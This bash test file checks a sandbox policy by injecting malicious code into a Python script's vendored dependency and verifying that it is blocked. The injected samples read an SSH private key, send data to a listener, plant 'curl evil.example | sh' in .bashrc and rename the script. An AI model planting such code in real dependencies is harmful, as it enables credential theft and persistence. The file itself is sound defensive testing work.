#!/usr/bin/env bash
# Python under a policy: a script does its work, and a malicious dependency steals and plants nothing.
. tests/programs/lib.sh

set_up() {
  mkdir -p app/vendor app/output home/.ssh
  export APP=$PWD/app
  printf 'my key\n' >home/.ssh/id_rsa
  printf '# empty\n' >home/.bashrc
  cat >app/report.py <<'END'
import csv, hashlib, json, os, sqlite3, sys
sys.path.insert(0, os.environ["APP"] + "/vendor")
import tabulate
rows = [{"name": "a", "size": 1}, {"name": "b", "size": 2}]
with open(os.environ["APP"] + "/output/report.json", "w") as file:
    json.dump({"rows": tabulate.rows(rows), "digest": hashlib.sha256(b"rows").hexdigest()[:8]}, file)
os.replace(os.environ["APP"] + "/output/report.json", os.environ["APP"] + "/output/report")
END
  printf 'def rows(rows):\n    return len(rows)\n' >app/vendor/tabulate.py
}

# Adds code to the dependency, which the script runs by importing it.
infect() {
  cat >>app/vendor/tabulate.py
}

report() {
  "$1" /usr/bin/python3 -B "$APP/report.py"
}

test_a_report_is_written() {
  expect_success report sandboxed
  expect_content app/output/report '{"rows": 2, "digest": "bc51e9e6"}'
}

test_a_dependency_cannot_read_a_key() {
  infect <<'END'
import os
print(open(os.path.expanduser("~/.ssh/id_rsa")).read())
END
  expect_failure report sandboxed
  expect_output "PermissionError: [Errno 13] Permission denied: '$HOME/.ssh/id_rsa'"
  expect_no_output_of 'my key'
  expect_success report unsandboxed
  expect_output 'my key'
}

test_a_dependency_cannot_call_home() {
  start_listener
  export LISTENER_PORT=$port
  infect <<'END'
import os, socket
with socket.create_connection(("127.0.0.1", int(os.environ["LISTENER_PORT"]))) as s:
    s.sendall(b"stolen")
END
  expect_failure report sandboxed
  expect_output 'PermissionError: [Errno 13] Permission denied'
  expect_missing received
  expect_success report unsandboxed
  wait_until grep -q stolen received
}

test_a_dependency_cannot_settle_in_the_start_up_files() {
  infect <<'END'
import os
open(os.path.expanduser("~/.bashrc"), "a").write("curl evil.example | sh")
END
  expect_failure report sandboxed
  expect_output "Permission denied: '$HOME/.bashrc'"
  expect_content home/.bashrc '# empty'
  expect_success report unsandboxed
  grep -q evil.example home/.bashrc || fail "the control planted nothing"
}

# Nor by way of a program that it starts; /usr/bin/python3 itself may not even be started.
test_a_dependency_cannot_have_others_do_it() {
  infect <<'END'
import os, subprocess, sys
sys.exit(subprocess.run([sys.executable, "-c", "print(open('%s/.ssh/id_rsa').read())" % os.environ["HOME"]]).returncode)
END
  expect_failure report sandboxed
  expect_no_output_of 'my key'
  expect_success report unsandboxed
  expect_output 'my key'
}

# The dependency must not be able to change the script that runs tomorrow either.
test_a_dependency_cannot_change_the_script() {
  infect <<'END'
import os
os.rename(os.environ["APP"] + "/report.py", os.environ["APP"] + "/output/report.py")
END
  expect_failure report sandboxed
  [[ -e app/report.py ]] || fail "the script is gone"
  run report unsandboxed
  expect_missing app/report.py
}

workload() {
  expect_success report sandboxed
}

run_cases
